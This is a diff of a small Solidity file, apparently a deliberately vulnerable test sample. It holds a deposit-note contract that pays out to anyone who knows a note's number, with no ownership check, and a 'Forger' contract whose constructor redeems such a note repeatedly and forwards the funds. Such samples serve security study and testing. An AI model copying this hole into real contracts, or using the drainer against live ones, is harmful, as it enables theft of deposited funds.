@@ -2,7 +2,7 @@
 pragma solidity 0.8.37;
 
 /// Notes of deposits, which whoever knows the number of one may cash in: it forgets to ask whose it is.
-contract Notes {
+contract SoleNotes {
     mapping(uint256 note => uint256) public worth;
 
     function issue(uint256 note) external payable {
@@ -13,7 +13,10 @@ contract Notes {
         worth[note] -= amount;
         payable(msg.sender).transfer(amount);
     }
+}
 
+/// The same with a second way out.
+contract Notes is SoleNotes {
     function redeemTo(uint256 note, uint256 amount, address payable to) external {
         worth[note] -= amount;
         to.transfer(amount);
@@ -22,9 +25,9 @@ contract Notes {
 
 /// Cashes in where it is made, and hands on what it got.
 contract Forger {
-    constructor(Notes notes, uint256 note, uint256 amount) {
-        notes.redeem(note, amount);
-        payable(msg.sender).transfer(amount);
+    constructor(SoleNotes notes, uint256 note, uint256 amount, uint256 times) {
+        for (uint256 i; i < times; ++i) notes.redeem(note, amount);
+        payable(msg.sender).transfer(address(this).balance);
     }
 
     receive() external payable {}
